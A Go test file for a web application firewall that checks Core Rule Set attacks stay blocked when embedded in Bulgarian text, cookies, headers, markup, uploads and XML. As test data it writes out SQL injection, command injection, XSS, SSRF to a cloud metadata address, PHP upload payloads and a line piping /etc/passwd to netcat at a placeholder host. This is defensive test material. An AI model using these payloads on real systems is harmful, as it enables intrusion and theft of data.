package waf

import (
	"encoding/base64"
	"io/fs"
	"net/url"
	"os"
	"strings"
	"testing"

	crstests "github.com/corazawaf/coraza-coreruleset/v4/tests"
	"go.yaml.in/yaml/v4"
)

// suiteAttacks are the values of parameters in the tests of the Core Rule Set that
// expect a rule against commands, scripts or SQL to match.
func suiteAttacks(t *testing.T) (out []string) {
	t.Helper()
	files, err := fs.Glob(crstests.FS, "*-93[1234]*/*.yaml")
	if err != nil {
		t.Fatal(err)
	}
	more, _ := fs.Glob(crstests.FS, "*-94[12]*/*.yaml")
	seen := map[string]bool{}
	for _, name := range append(files, more...) {
		b, err := fs.ReadFile(crstests.FS, name)
		if err != nil {
			t.Fatal(err)
		}
		var f struct {
			Tests []struct {
				Stages []struct {
					Input struct {
						URI  string `yaml:"uri"`
						Data string `yaml:"data"`
					} `yaml:"input"`
					Output struct {
						Log struct {
							Expect []int `yaml:"expect_ids"`
						} `yaml:"log"`
					} `yaml:"output"`
				} `yaml:"stages"`
			} `yaml:"tests"`
		}
		if err := yaml.Unmarshal(b, &f); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for _, one := range f.Tests {
			for _, s := range one.Stages {
				if len(s.Output.Log.Expect) == 0 {
					continue
				}
				_, query, _ := strings.Cut(s.Input.URI, "?")
				for _, a := range append(formArguments(query), formArguments(s.Input.Data)...) {
					if len(a.value) >= 4 && len(a.value) < 2000 && !seen[a.value] {
						seen[a.value] = true
						out = append(out, a.value)
					}
				}
			}
		}
	}
	if len(out) < 1000 {
		t.Fatalf("only %d attacks", len(out))
	}
	return out
}

// inText puts an attack into what people write.
var inText = []func(string) string{
	func(a string) string {
		return "Здравейте, моля за помощ по следния въпрос: " + a
	},
	func(a string) string {
		return a + " Благодаря предварително за бързия отговор, с уважение Иван Петров."
	},
	func(a string) string {
		return "Подадох заявление на 12.03.2024 г. и " + a + " но няма отговор от общината."
	},
	func(a string) string {
		return "Здравейте!\r\nИмам един въпрос към вас.\r\n" + a + "\r\nКога ще получа отговор?"
	},
	func(a string) string {
		return "Сайтът ми изписва \"" + a + "\" и не работи нищо повече от вчера."
	},
}

// TestAttacksInText: an attack that is blocked is blocked within text in Cyrillic,
// too, for what rules don't see of a text is text.
func TestAttacksInText(t *testing.T) {
	t.Parallel()
	rs := testRuleset(t, Settings{Paranoia: 2})
	blocked := func(v string) bool {
		got, err := rs.run(testRequest("/a?q="+url.QueryEscape(v), "", ""), rs.screened)
		return got.Block || err != nil
	}
	every := 8
	if os.Getenv("VAZEL_PROPERTY") != "" { // all of them, as with TestScreenNeverMisses
		every = 1
	}
	tried, missed := 0, 0
	for i, a := range suiteAttacks(t) {
		if i%every != 0 || !blocked(a) {
			continue
		}
		for k, put := range inText {
			if tried++; blocked(put(a)) {
				continue
			}
			// A link is dangerous at the beginning of a value.
			if missed++; !strings.Contains(a, "://") && !onlyWords[a] {
				t.Errorf("in text %d, %q passes", k, a)
			}
		}
	}
	t.Logf("of %d attacks in texts, %d pass", tried, missed)
	if missed*25 > tried {
		t.Errorf("%d of %d attacks pass in texts", missed, tried)
	}
}

// onlyWords are values that are attacks where they stand alone, and parts of a
// sentence elsewhere: a word of a language, a program's name without anything that
// ends what stands before it, what decodes to something.
var onlyWords = func() map[string]bool {
	out := map[string]bool{}
	for _, s := range []string{
		"https?", "http?", "ftps?", "ftp?", "file?", "4oR2-", "4440,1))),0x7170716271,FLOOR", "4294967296", "2.2250738585072011e-308", "1 is not 2", " 'abc', 0x1a", "values (", "time who", "rc script.sh", "python3.10 cmd", "pip install something", "perf --version", "minute (",
		"ls foo bar", `ksh -c "curl google."COM`, "if (", "if !(", "env --version", "day. (", "data:text/plain", "chroot\t()", "c99 -wrapper sh,-c,curl google.com .", `busybox -c "echo hi"`, `bash -c "echo test"`, "aa-disable php-fpm", "except \tselect.1,2", "RegExp", "LIKE NULL", "IN (", "FLOOR (",
		") when 234 then", "'1' not regexp '2'", "', 2, 1", " in ( Aa,- Ab-, and Ac)", `whoami;0'0'"`, "ln) (", "ln (", "() {", " 'item', (5)", "XyQkTkRfRlVOQyQkXwo=", "XHUwMDc3XHUwMDY4aWxlKHRydWUpOwo=",
	} {
		out[s] = true
	}
	return out
}()

// TestAttacksBesideTolerance: for each thing that some rules don't look at, attacks
// that are built like it, or that stand in it or beside it, are blocked.
func TestAttacksBesideTolerance(t *testing.T) {
	t.Parallel()
	sets := []*Ruleset{testRuleset(t, Settings{Paranoia: 1}), testRuleset(t, Settings{Paranoia: 2})}
	cookie := func(v string) *Request {
		r := testRequest("/a", "", "")
		r.Header["Cookie"] = []string{"c=" + url.QueryEscape(v)}
		return r
	}
	header := func(name, v string) *Request {
		r := testRequest("/a", "", "")
		r.Header[name] = []string{v}
		return r
	}
	const file = "multipart/form-data; boundary=xyz"
	part := func(disposition string) *Request {
		return testRequest("/a", file, "--xyz\r\nContent-Disposition: form-data; "+disposition+"\r\n\r\n<?php system('id'); ?>\r\n--xyz--\r\n")
	}
	typed := func(kind, body string) *Request { return testRequest("/a", kind, body) }
	for _, tt := range []struct {
		paranoia int // from where it has to be blocked
		name     string
		r        *Request
	}{
		{2, "quotations around an operator", inQuery(`Търся фирма "Алфа" or "1"="1" в града ни днес`)},
		{2, "a quotation that is an expression", inQuery(`Търся фирма по име "or 1 like 1 or" в града ни днес`)},
		{1, "strings in Cyrillic", inQuery(`я' or 'я'='я' union select парола from потребители --`)},
		{1, "SQL behind a text", inQuery(`Моля за помощ по този въпрос' union select password from users-- `)},
		{1, "SQL before a text", inQuery(`1 union select password from users -- моля за помощ по този въпрос`)},
		{1, "SQL around sentences", inQuery("1' union /* Моля за помощ по този въпрос. */ select password from users #")},
		{1, "SQL in lines between a text", inQuery("Моля за помощ по този въпрос.\r\n1' union\r\nБлагодаря ви много за това.\r\nselect password from users --")},
		{2, "an expression without quotes", inQuery(`1 or 1=1 -- три думи на кирилица са тук`)},
		{2, "an expression with a comment", inQuery(`1 or true # три думи на кирилица са тук`)},
		{2, "a tautology in a text", inQuery(`Моля за помощ по този въпрос" or "a"="a`)},
		{1, "a command behind a text", inQuery(`Моля за помощ по този въпрос; cat /etc/passwd`)},
		{1, "a command in a text", inQuery(`Моля за помощ $(cat /etc/passwd) по този въпрос`)},
		{1, "a command in a line", inQuery("Моля за помощ по този въпрос.\ncat /etc/passwd\nБлагодаря ви много.")},
		{2, "wildcards in a text", inQuery(`Моля за помощ по този въпрос; /bin/c?t /etc/pas?wd и още нещо`)},
		{2, "wildcards at the end", inQuery(`Моля за помощ по този въпрос /bin/ca? /etc/passw?`)},
		{2, "quotes within a command", inQuery(`Моля за помощ по този въпрос | c"a"t /etc/p'a'sswd`)},
		{1, "a script in a text", inQuery(`Моля за помощ <img src=x onerror=alert(1)> по този въпрос`)},
		{1, "an attribute in a text", inQuery(`Моля за помощ" onmouseover="alert(1) по този въпрос`)},
		{1, "a script without a dot in a text", inQuery(`Моля за помощ <svg/onload=alert(1)> „по“ този въпрос`)},
		{2, "signs around numbers", inQuery(`1 || 1=1 # чл. 5`)},
		{2, "a link alone", inQuery(`http://evil.example/shell.txt`)},
		{2, "a link before a text", inQuery(`http://evil.example/shell.txt? Моля за помощ`)},
		{2, "a link behind a letter", inQuery(`ф:http://evil.example/shell.txt`)},
		{1, "a link within a network", inQuery(`Вижте тук: http://169.254.169.254/latest/meta-data/`)},

		{1, "an operator of MongoDB", inQuery(`{"$ne": ""}`)},
		{1, "an operator beside a name", inQuery(`{"$initial": 1, "$where": "1"}`)},
		{1, "an operator in a name", testRequest("/a?u[$ne]=1", "", "")},
		{1, "an operator in a cookie", cookie(`{"$initial_referrer":"x","$gt":""}`)},
		{1, "SQL in a cookie of JSON", cookie(`{"categories":["x' or '1'='1' union select password from users--"]}`)},
		{1, "SQL in a name of a cookie of JSON", cookie(`{"x' or '1'='1' union select password from users--":1}`)},
		{2, "a tautology in a cookie of JSON", cookie(`{"a":"\" == \""}`)},
		{1, "a script in a consent", cookie(`{stamp:'<script>alert(1)</script>',necessary:true}`)},
		{1, "SQL in a consent", cookie(`{stamp:'a' union select password from users--',necessary:true}`)},
		{2, "a tautology in a consent", cookie(`{stamp:'a' or 'a'='a',necessary:true}`)},
		{1, "a command in the time of a consent", cookie(`a=1&datestamp=Mon GMT+0200 (Eastern Time);cat /etc/passwd`)},
		{1, "SQL in a list", cookie(`["12","x' union select password from users--"]`)},
		{1, "SQL in Referer", header("Referer", `https://a.example/?q=x' union select password from users--`)},
		{2, "a tautology in Referer", header("Referer", `https://a.example/?q=x" or "a"="a`)},
		{1, "SQL behind Base64", inQuery(`QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo1' union select password from users--`)},
		{2, "an operator behind Base64", inQuery(`QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo1" or "a"="a`)},

		{1, "an event in markup", inQuery(`<p>Уважаеми граждани</p><p onclick="alert(1)">а</p>`)},
		{1, "a script in markup", inQuery(`<p>Уважаеми граждани</p><script>alert(1)</script>`)},
		{1, "a script in a link of markup", inQuery(`<p>Вижте <a href="javascript:alert(1)">тук</a></p>`)},
		{1, "a script in a link with a tab", inQuery("<p>Вижте <a href=\"java\tscript:alert(1)\">тук</a></p>")},
		{1, "a script in an entity", inQuery(`<p>Вижте <a href="&#106;avascript:alert(1)">тук</a></p>`)},
		{1, "a frame in markup", inQuery(`<p>Вижте</p><iframe src="https://evil.example/"></iframe>`)},
		{1, "an event behind a quote", inQuery(`<p title="x" onmouseover="alert(1)">а</p>`)},
		{1, "an image with an event", inQuery(`<p>а</p><img src="x" onerror="alert(1)">`)},
		{1, "a style with an expression", inQuery(`<p style="width:expression(alert(1))">а</p>`)},
		{1, "an unclosed tag", inQuery(`<p>а</p><img src=x onerror=alert(1) `)},
		{1, "a script in a text of markup", inQuery(`<p>x' or '1'='1' union select password from users--</p>`)},
		{1, "a command in a text of markup", inQuery(`<p>;cat /etc/passwd|nc 192.0.2.1 99</p>`)},
		{1, "SQL in a title of markup", inQuery(`<p title="x' or '1'='1' union select password from users--">а</p>`)},
		{1, "a tag of SVG in a tag", inQuery(`<p>а<svg/onload=alert(1)></p>`)},
		{1, "a script behind letters", inQuery(`мо<script>alert(1)</script>мо`)},
		{1, "bytes of an old browser", testRequest("/a?q=%c2%bcscript%c2%bealert(1)%c2%bc/script%c2%be%d0%be%d0%be", "", "")},

		{1, "letters that an old browser reads as tags", inQuery("мscriptоalert(¢XSS¢)м/scriptо")},
		{1, "a command in a pair", inQuery("pay=;drop table users;--")},
		{2, "a keyword in a pair", inQuery("pay=;drop")},
		{1, "a path beside a page", testRequest("/faces/..%2f..%2f..%2fetc/passwd.xhtml", "", "")},
		{1, "an attribute beside a page", inQuery(`"><a xhtml:x onclick=alert(1) xlink:href="javascript:alert(1)">a.xhtml</a>`)},
		{2, "a second type in a type", typed(`application/soap+xml; charset=utf-8; x="text/html"`, `<a/>`)},
		{2, "a type in an action", typed(`application/soap+xml; action="urn:a, text/html"`, `<a/>`)},
		{1, "SQL behind a geometry", inQuery(`POLYGON((1 2, 3 4)) union select password from users--`)},
		{1, "a command behind a geometry", inQuery(`POINT(1 2);sleep(5) or benchmark(1000000,md5(1))`)},
		{1, "an expectation of something else", header("Expect", "200-ok")},

		{1, "a page as an address", inQuery("data:text/html;base64," + base64.StdEncoding.EncodeToString([]byte("<script>alert(1)</script>")))},
		{1, "a page that says it is a document", inQuery("data:application/pdf;base64," + base64.StdEncoding.EncodeToString([]byte("<script>alert(1)</script>")))},
		{1, "a program in a document as an address", inQuery("data:application/pdf;base64," + base64.StdEncoding.EncodeToString([]byte("%PDF-1.7\n<?php system('id'); ?>")))},
		{1, "a picture that runs", inQuery("data:image/svg+xml;base64," + base64.StdEncoding.EncodeToString([]byte("<svg onload=alert(1)>")))},
		{1, "a long name of another kind", part(`name="f"; filename="a.txt"; filename*=utf-8''a.php`)},
		{1, "a long name alone", part(`name="f"; filename*=utf-8''a.txt`)},
		{1, "two long names", part(`name="f"; filename="a.txt"; filename*=utf-8''a.txt; filename*=utf-8''a.txt`)},
		{1, "a long name before the short one", part(`name="f"; filename*=utf-8''a.txt; filename="a.txt"`)},
		{1, "a long name in another encoding", part(`name="f"; filename="a.txt"; filename*=iso-8859-1''a.txt`)},
		{1, "a long name of a field", part(`name="f"; name*=utf-8''g; filename="a.txt"`)},
		{1, "an encoded name of a path", part(`name="f"; filename="=?utf-8?B?Li4vLi4vYS5waHA=?="; filename*=utf-8''..%2F..%2Fa.php`)},
		{1, "another encoding with letters", typed("text/xml", `<?xml version="1.0" encoding="ISO-8859-1"?><a>я</a>`)},
		{1, "UTF-7", typed("text/xml", `<?xml version="1.0" encoding="UTF-7"?><a>+ADw-script+AD4-</a>`)},
		{1, "EBCDIC", typed("text/xml", `<?xml version="1.0" encoding="IBM037"?><a>x</a>`)},
		{1, "a schema of another host", typed("text/xml", `<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://a http://evil.example/?REQUEST=DescribeFeatureType"/>`)},
		{1, "a schema of the own host", typed("text/xml", `<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://a http://a.example/evil.xsd"/>`)},
		{1, "a schema of a user", typed("text/xml", `<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://a http://a.example@evil.example/?REQUEST=DescribeFeatureType"/>`)},
		{1, "a schema with a backslash", typed("text/xml", `<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://a http://a.example\@evil.example/?REQUEST=DescribeFeatureType"/>`)},
		{1, "SQL in a token", inQuery("eyJhbGciOiJub25lIn0." + base64.RawURLEncoding.EncodeToString([]byte(`{"iss":"x' or '1'='1' union select password from users--"}`)) + ".")},
	} {
		for i, rs := range sets {
			if i+1 < tt.paranoia {
				continue
			}
			v, err := rs.run(tt.r, rs.screened)
			if !v.Block && asRefusal(err) == nil {
				t.Errorf("paranoia %d: %s passes: %v %v", i+1, tt.name, v.Rules, err)
			}
			same(t, rs, tt.r)
		}
	}
}

func inQuery(v string) *Request { return testRequest("/a?q="+url.QueryEscape(v), "", "") }
